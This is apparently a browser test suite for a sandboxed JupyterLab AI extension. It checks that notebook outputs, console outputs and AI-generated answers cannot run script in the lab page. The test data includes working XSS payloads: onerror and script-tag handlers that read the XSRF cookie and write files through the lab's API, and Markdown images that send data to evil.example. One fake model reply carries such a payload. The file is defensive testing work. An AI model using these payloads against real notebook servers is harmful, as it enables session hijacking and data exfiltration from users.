"""Outputs of a sandboxed kernel cannot script the lab; model text from ``%ai`` is inert.

A real ``jupyter lab`` with the agent (and the fake model), a headless Chromium, and a
notebook on ``Python 3 (sandboxed)``. Each payload tries what an XSS in the lab could do:
set a marker on the lab's page (``window.top`` / ``parent.document``) and create a file
through the contents API with the user's cookie and XSRF token. Neither may happen, while
tables, plots, SVG and script-using HTML (inside its frame) still show.
"""

from __future__ import annotations

import json
import urllib.request
from typing import Any

import pytest
from browser_support import LabPage, write_notebook

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("aiide-agent-browser")]

OUTPUT_TIMEOUT_MS = 90_000

# What a payload does when it runs: mark the lab's page, and PUT a file through the
# lab's API with the XSRF token read from the cookie (what a real attack would do).
STEAL = """
def steal(tag):
    return (
        "try{window.top.document.body.dataset.aiidePwned='%s'}catch(e){}"
        "try{parent.document.body.dataset.aiidePwned='%s'}catch(e){}"
        "try{var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "fetch('/api/contents/pwned-%s.txt',{method:'PUT',credentials:'include',"
        "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
        "body:JSON.stringify({type:'file',format:'text',content:'x'})})}catch(e){}"
    ) % (tag, tag, tag)
"""

CELLS = [
    ("setup", "from IPython.display import HTML, Markdown, Javascript, SVG, display\n" + STEAL),
    ("html", "display(HTML('<img src=x onerror=\"' + steal('html') + '\">'))"),
    ("markdown", "display(Markdown('<img src=x onerror=\"' + steal('md') + '\">'))"),
    ("js", "display(Javascript(steal('js')))"),
    ("script", "display(HTML('<script>' + steal('script') + '</script>'))"),
    # JupyterLab's own "isolated" output metadata must not reopen the lab's origin.
    (
        "isolated",
        "display(HTML('<img src=x onerror=\"' + steal('iso') + '\">'),"
        " metadata={'isolated': True})",
    ),
    (
        "framed",
        'display(HTML(\'<div id="t">script did not run</div>'
        '<button id="b" onclick="this.textContent = 1 + 1">click me</button>'
        '<script>document.getElementById("t").textContent = "ran in its frame"</script>\'))',
    ),
    (
        "table",
        "import pandas as pd\n"
        "pd.DataFrame({'city': ['Lyon', 'Oslo', 'Lima'], 'temp': [14.5, 6.1, 19.2]})",
    ),
    (
        "png",
        "%matplotlib inline\nimport matplotlib.pyplot as plt\n"
        "plt.figure(figsize=(3, 2)); plt.plot([1, 3, 2, 4]); plt.title('sandboxed'); plt.show()",
    ),
    (
        "svg",
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
        '<rect width="120" height="40" fill="teal"/></svg>\'))',
    ),
    ("remote", "display(Markdown('Logo: ![logo](https://evil.example/logo.png?leak=1)'))"),
]

AI_CELLS = [("ai", "%load_ext aiide_kernel.magics\n%ai say hi")]
AI_ANSWER = (
    "Here you go <img src=x onerror=\"window.top.document.body.dataset.aiidePwned='ai'\">\n\n"
    "![chart](https://evil.example/chart.png?d=SECRET)\n\n**bold** text"
)


def _cell(notebook: Any, cell_id: str, cells: list[tuple[str, str]] = CELLS) -> Any:
    """The cell of that id (JupyterLab puts no cell id in the DOM: by position)."""
    index = [c for c, _ in cells].index(cell_id)
    return notebook.locator(".jp-Cell").nth(index)


def run_all(chat: LabPage, notebook: Any, count: int) -> None:
    """Runs every cell and waits until each has its number (none waiting, none running)."""
    from playwright.sync_api import expect

    chat.run_command("notebook:run-all-cells")
    expect(notebook.locator(".jp-InputArea-prompt", has_text="[*]")).to_have_count(
        0, timeout=OUTPUT_TIMEOUT_MS
    )
    expect(notebook.locator(".jp-InputArea-prompt", has_text="[ ]")).to_have_count(0)
    # Every cell ran (a numbered prompt each).
    prompts = notebook.locator(".jp-InputArea-prompt")
    expect(prompts).to_have_count(count)


def _unset(chat: LabPage) -> None:
    pwned = chat.page.evaluate("() => document.body.dataset.aiidePwned ?? null")
    assert pwned is None, f"a payload ran in the lab's page: {pwned}"


def test_the_lab_sends_its_content_security_policy(agent_lab: Any) -> None:
    req = urllib.request.Request(
        f"{agent_lab.url}lab", headers={"Authorization": f"token {agent_lab.token}"}
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        csp = resp.headers["Content-Security-Policy"]
    for directive in (
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'self'",
        "connect-src 'self'",
    ):
        assert directive in csp, csp


def test_sandboxed_outputs_cannot_script_the_lab_and_rich_output_still_shows(
    chat: LabPage, agent_lab: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    path = write_notebook(agent_lab.root_dir, "isolation.ipynb", CELLS)
    notebook = chat.open_notebook(path)
    run_all(chat, notebook, len(CELLS))
    page = chat.page
    expect(_cell(notebook, "remote").locator(".jp-OutputArea-output")).to_have_count(1)

    # First what matters: no payload ran in the lab's page or reached its API (given the
    # time to try).
    page.wait_for_timeout(2_000)
    _unset(chat)
    planted = sorted(p.name for p in agent_lab.root_dir.glob("pwned-*"))
    assert not planted, f"a payload used the lab's API: {planted}"
    assert not chat.dialogs, chat.dialogs

    # Active output runs in frames of an opaque origin (scripts only, no same-origin).
    for cell_id in ("html", "js", "script", "framed"):
        frame = _cell(notebook, cell_id).locator("iframe.aiide-FramedOutput-frame")
        expect(frame).to_have_count(1, timeout=OUTPUT_TIMEOUT_MS)
        assert frame.get_attribute("sandbox") == "allow-scripts"
    # The script-using HTML still works, inside its own frame.
    framed = (
        _cell(notebook, "framed")
        .frame_locator("iframe.aiide-FramedOutput-frame")
        .frame_locator("#aiide-inner")
    )
    expect(framed.locator("#t")).to_have_text("ran in its frame", timeout=OUTPUT_TIMEOUT_MS)
    framed.locator("#b").click()  # and stays interactive (what plots in frames need)
    expect(framed.locator("#b")).to_have_text("2")
    # The frame sized itself to its content (postMessage): not the 1.5em placeholder.
    box = _cell(notebook, "framed").locator("iframe.aiide-FramedOutput-frame").bounding_box()
    assert box and box["height"] >= 10

    # Markdown with a handler renders in place, sanitized: no image, no handler.
    md = _cell(notebook, "markdown").locator(".jp-OutputArea-output")
    expect(md).to_have_count(1)
    assert md.locator("img").count() == 0
    assert "onerror" not in md.inner_html()

    # Plain rich output displays in place (no frame).
    table = _cell(notebook, "table").locator(".jp-OutputArea-output table.dataframe")
    expect(table).to_be_visible()
    expect(table).to_contain_text("Oslo")
    assert _cell(notebook, "table").locator("iframe").count() == 0
    png = _cell(notebook, "png").locator('.jp-OutputArea-output img[src^="data:image/png"]')
    expect(png).to_be_visible()
    svg = _cell(notebook, "svg").locator('.jp-OutputArea-output img[src^="data:image/svg+xml"]')
    expect(svg).to_be_visible()

    # A remote image in Markdown waits for a click.
    remote = _cell(notebook, "remote").locator(".aiide-RemoteResource")
    expect(remote).to_have_text("Load image from evil.example (logo)")
    assert _cell(notebook, "remote").locator("img").count() == 0

    for first, name in (("html", "output-isolation-payloads"), ("table", "output-isolation-rich")):
        _cell(notebook, first).evaluate("el => el.scrollIntoView({block: 'start'})")
        page.wait_for_timeout(300)
        screenshot(notebook, name)

    # The user's choice: now it loads. (The cell is made active first: activating it on
    # mousedown scrolls the notebook, and the mouseup would miss the button.)
    _cell(notebook, "remote").locator(".jp-InputArea").click()
    remote.click()
    loaded = _cell(notebook, "remote").locator('img[src="https://evil.example/logo.png?leak=1"]')
    expect(loaded).to_have_count(1)


def test_ai_magic_answers_are_inert(
    chat: LabPage, agent_lab: Any, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": AI_ANSWER})
    path = write_notebook(agent_lab.root_dir, "ai-magic.ipynb", AI_CELLS)
    notebook = chat.open_notebook(path)
    run_all(chat, notebook, 1)
    output = _cell(notebook, "ai", AI_CELLS).locator(".jp-OutputArea-output")
    expect(output).to_contain_text("bold", timeout=OUTPUT_TIMEOUT_MS)
    chat.page.wait_for_timeout(1_000)
    _unset(chat)
    answer = output.locator(".aiide-ModelText")
    expect(answer.locator("strong")).to_have_text("bold")
    assert answer.locator("img").count() == 0
    assert "onerror" not in answer.inner_html()
    # Both images wait for a click (the handler is gone from the first).
    placeholders = answer.locator(".aiide-RemoteResource")
    expect(placeholders).to_have_count(2)
    expect(placeholders.last).to_have_text("Load image from evil.example (chart)")
    screenshot(_cell(notebook, "ai", AI_CELLS), "output-isolation-ai-magic")


def test_saved_outputs_stay_guarded_when_the_notebook_is_opened_again(
    chat: LabPage, agent_lab: Any
) -> None:
    """Outputs saved (the server signs the notebook: they come back trusted) are guarded
    again from the notebook's kernelspec, before any kernel runs. The notebook of the
    first test is reused when it is there; xdist may run this test in a lab of its own."""
    from playwright.sync_api import expect

    path = "isolation.ipynb"
    if not (agent_lab.root_dir / path).exists():  # run alone, or after a fresh lab
        write_notebook(agent_lab.root_dir, path, CELLS)
    saved = json.loads((agent_lab.root_dir / path).read_text())
    if not any(cell["outputs"] for cell in saved["cells"]):
        notebook = chat.open_notebook(path)
        run_all(chat, notebook, len(CELLS))
        chat.run_command("docmanager:save")
        expect(notebook).to_be_visible()
    chat.run_command("docmanager:save-all")  # nothing unsaved holds the reload
    chat.page.wait_for_timeout(1_000)
    chat.page.reload()
    chat.page.locator("#jp-main-statusbar").wait_for()
    chat.page.evaluate("() => { delete document.body.dataset.aiidePwned; }")
    notebook = chat.open_notebook(path, kernel=False)
    frame = _cell(notebook, "html").locator("iframe.aiide-FramedOutput-frame")
    expect(frame).to_have_count(1, timeout=OUTPUT_TIMEOUT_MS)
    expect(_cell(notebook, "table").locator("table.dataframe")).to_be_visible()
    chat.page.wait_for_timeout(2_000)
    _unset(chat)


def test_a_sandboxed_console_is_guarded_too(chat: LabPage) -> None:
    from playwright.sync_api import expect

    page = chat.page
    page.evaluate("() => { delete document.body.dataset.aiidePwned; }")
    chat.run_command("console:create", {"kernelPreference": {"name": "aiide-python"}})
    console = page.locator(".jp-ConsolePanel:visible")
    console.wait_for(timeout=OUTPUT_TIMEOUT_MS)
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel"
        "?.status === 'idle'",
        timeout=OUTPUT_TIMEOUT_MS,
    )
    code = (
        "from IPython.display import HTML, display\n"
        + STEAL
        + "\ndisplay(HTML('<img src=x onerror=\"' + steal('console') + '\">'))"
    )
    page.evaluate(
        "c => window.jupyterapp.shell.currentWidget.console.promptCell.model.sharedModel"
        ".setSource(c)",
        code,
    )
    chat.run_command("console:run-forced")
    frame = console.locator(".jp-OutputArea-output iframe.aiide-FramedOutput-frame")
    expect(frame).to_have_count(1, timeout=OUTPUT_TIMEOUT_MS)
    assert frame.get_attribute("sandbox") == "allow-scripts"
    page.wait_for_timeout(2_000)
    _unset(chat)
